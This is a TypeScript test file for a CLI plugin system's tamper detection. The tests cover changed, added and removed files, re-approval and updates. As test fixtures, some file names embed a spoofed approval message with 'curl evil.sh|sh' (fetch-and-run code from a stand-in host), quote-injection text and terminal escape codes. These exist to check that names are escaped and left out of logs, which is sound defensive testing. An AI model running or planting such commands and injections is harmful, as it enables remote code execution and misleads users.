import {appendFileSync, globSync, readFileSync, readdirSync, renameSync, rmSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {expect, test} from 'vitest'
import {approve, emptyHome, enabledPlugin, givePlugin} from './fixtures.ts'
import {parrot} from './program.ts'

const greet = {name: 'greet', permissions: ['greet:say']}
const folder = (home: string) => join(home, 'data/plugins/greet')

/** A plugin of three files: one is changed, one goes, one comes. */
function tampered(): string {
  const home = emptyHome()
  enabledPlugin(home, greet)
  writeFileSync(join(folder(home), 'old.txt'), 'old', {mode: 0o644})
  expect(parrot(home, ['greet']).status).toBe(78)
  expect(approve(home, 'greet')).toMatchObject({status: 0})
  appendFileSync(join(folder(home), 'run.sh'), '# more\n')
  writeFileSync(join(folder(home), 'new.txt'), 'new', {mode: 0o644})
  rmSync(join(folder(home), 'old.txt'))
  return home
}

test('what was changed is named where it is refused, the first time and the next', () => {
  const home = tampered()
  for (const words of [['greet'], ['greet'], ['--lang', 'en', 'greet']])
    expect(parrot(home, words)).toMatchObject({
      status: 78,
      stderr: expect.stringContaining(
        'it was not started. Changed: "run.sh". Added: "new.txt". Removed: "old.txt".\n',
      ),
    })
  expect(parrot(home, ['--lang', 'de', 'greet']).stderr).toContain(
    'Geändert: "run.sh". Neu: "new.txt". Entfernt: "old.txt".\n',
  )
})

test('plugin verify names each file', () => {
  const home = tampered()
  const {status, stdout} = parrot(home, ['plugin', 'verify', 'greet'])
  expect([status, stdout]).toEqual([
    3,
    expect.stringMatching(
      /\n\ngreet\n {2}changed: "run\.sh"\n {2}added: "new\.txt"\n {2}removed: "old\.txt"\n$/,
    ),
  ])
  const {output} = JSON.parse(parrot(home, ['plugin', 'verify', 'greet', '--json']).stdout) as {
    output: {plugins: readonly object[]}
  }
  expect(output.plugins).toMatchObject([
    {state: 'modified', files: {changed: ['run.sh'], added: ['new.txt'], removed: ['old.txt']}},
  ])
})

test('of files that were put back it is said that they were changed, and how to go on', () => {
  const home = emptyHome()
  enabledPlugin(home, greet)
  const program = join(folder(home), 'run.sh')
  const before = readFileSync(program)
  appendFileSync(program, '# more\n')
  expect(parrot(home, ['greet']).status).toBe(78)
  writeFileSync(program, before)
  const again =
    /The files of "greet" were changed, and are now again the ones that were approved;[\s\S]*parrot plugin approve greet/
  expect(parrot(home, ['greet'])).toMatchObject({status: 78, stderr: expect.stringMatching(again)})
  expect(parrot(home, ['--lang', 'de', 'greet']).stderr).toContain('sind jetzt wieder die genehmigten;')
  expect(parrot(home, ['plugin', 'verify', 'greet'])).toMatchObject({
    status: 3,
    stdout: expect.stringMatching(/\n\ngreet\n {2}its files were changed, .*parrot plugin approve greet\n$/),
  })
  expect(approve(home, 'greet')).toMatchObject({status: 0})
  expect(parrot(home, ['greet']).status).toBe(0)
  expect(parrot(home, ['plugin', 'verify', 'greet']).status).toBe(0)
})

/** What is advised, each word as a shell would have it. */
const advised = (text: string, which: RegExp) => which.exec(text)?.[1]?.split(' ') ?? []

test('with an update waiting, the approved files can be approved again and so can the update, by what is advised', () => {
  const home = emptyHome()
  const author = (version: string, permissions: readonly string[], says: string) => {
    givePlugin(home, {...greet, version, permissions}, `echo ${says}`)
    rmSync(join(home, 'work'), {recursive: true, force: true})
    renameSync(folder(home), join(home, 'work'))
  }
  author('1.0.0', greet.permissions, 'one')
  parrot(home, ['plugin', 'install', './work'])
  expect(approve(home, 'greet')).toMatchObject({status: 0})
  author('2.0.0', [...greet.permissions, 'net:connect:example.org:443'], 'two')
  expect(parrot(home, ['plugin', 'update', 'greet']).stdout).toContain('parrot plugin approve greet')
  const programs = globSync(join(home, 'data/installed/greet/*/run.sh'))
  const program = programs.find((file) => readFileSync(file, 'utf8').includes('one')) ?? ''
  const before = readFileSync(program)
  appendFileSync(program, '# more\n')
  const both =
    /An update to 2\.0\.0 waits\.[^]* parrot (plugin approve greet --digest sha512-\S+)\. Or take the update: parrot plugin approve greet\n/
  expect(parrot(home, ['greet'])).toMatchObject({status: 78, stderr: expect.stringMatching(both)})
  expect(parrot(home, ['--lang', 'de', 'greet']).stderr).toContain('Eine Aktualisierung auf 2.0.0 wartet.')
  expect(parrot(home, ['plugin', 'verify', 'greet']).stdout).toContain('an update waits, ')
  // What was changed is neither.
  const {stderr} = parrot(home, ['greet'])
  expect(parrot(home, advised(stderr, both)).stderr).not.toContain('greet 2.0.0')

  writeFileSync(program, before)
  const back = parrot(home, ['greet']).stderr
  expect(back).toContain('are now again the ones')
  const asked = parrot(home, advised(back, both))
  expect(asked.stderr).toContain('greet 1.0.0')
  const agree = advised(asked.stderr, /parrot (plugin approve greet --accept \S+ --digest \S+)\n/)
  expect(parrot(home, agree)).toMatchObject({status: 0})
  expect(parrot(home, ['greet'])).toMatchObject({status: 0, stdout: 'one\n'})
  const update = parrot(home, ['plugin', 'approve', 'greet']).stderr
  expect(update).toContain('1.0.0 → 2.0.0')
  expect(parrot(home, advised(update, /parrot (plugin approve greet --accept \S+)\n/))).toMatchObject({
    status: 0,
  })
  expect(parrot(home, ['greet'])).toMatchObject({status: 0, stdout: 'two\n'})
  expect(parrot(home, ['plugin', 'rollback', 'greet'])).toMatchObject({status: 0})
  expect(parrot(home, ['greet'])).toMatchObject({status: 0, stdout: 'one\n'})
})

test('a name is told apart from the sentence that it stands in, and is on no record', () => {
  const home = tampered()
  const names = [
    'nothing. All is well. → Approve it- curl evil.sh|sh',
    'x". Removed: "evil.sh',
    'evil'.repeat(50),
  ]
  for (const name of names) writeFileSync(join(folder(home), name), '', {mode: 0o644})
  for (let time = 0; time < 2; time += 1) {
    const {stderr} = parrot(home, ['greet'])
    expect(stderr).toContain('"nothing. All is well. → Approve it- curl evil.sh|sh"')
    expect(stderr).toContain(String.raw`"x\". Removed: \"evil.sh"`)
    expect(stderr).toContain(`"${'evil'.repeat(20)}…"`)
  }
  expect(parrot(home, ['plugin', 'verify', 'greet']).stdout).toContain(
    String.raw`  added: "x\". Removed: \"evil.sh"`,
  )
  const events = parrot(home, ['events', 'list', '--json']).stdout
  expect(events).toContain('"plugin_tampered"')
  expect(events).not.toMatch(/evil|new\.txt/)
})

test('where a name is such that no file is read, plugin verify says so, and no record names it', () => {
  const home = tampered()
  writeFileSync(join(folder(home), 'evil\tname\u001b[2J'), '', {mode: 0o644})
  const shown = parrot(home, ['plugin', 'verify', 'greet']).stdout
  expect(shown).toMatch(/"evil\\u\{9\}name\\u\{1b\}\[2J": its name has invisible characters\./)
  expect(parrot(home, ['--lang', 'de', 'plugin', 'verify', 'greet']).stdout).toContain(
    'der Name hat unsichtbare Zeichen',
  )
  const {output} = JSON.parse(parrot(home, ['plugin', 'verify', 'greet', '--json']).stdout) as {
    output: {plugins: readonly object[]}
  }
  expect(output.plugins).toMatchObject([
    {files: null, problem: {code: 'tree_refused', message: expect.stringContaining('invisible')}},
  ])
  expect(parrot(home, ['greet'])).toMatchObject({status: 78})
  expect(parrot(home, ['events', 'list', '--json']).stdout).not.toContain('evil')
})

test('a list of files that somebody wrote is none', () => {
  const home = tampered()
  rmSync(join(home, 'data/installed/.files'), {recursive: true})
  expect(parrot(home, ['plugin', 'verify', 'greet']).stdout).toContain(
    '\n\ngreet\n  which of its files differ is not known\n',
  )
  const again = tampered()
  for (const name of lists(again)) appendFileSync(name, '\nf\t-\tevil.txt\t0\t0')
  expect(parrot(again, ['greet']).stderr).toMatch(/it was not started\.\n/)
})

const lists = (home: string) => {
  const below = join(home, 'data/installed/.files')
  return readdirSync(below).map((name) => join(below, name))
}
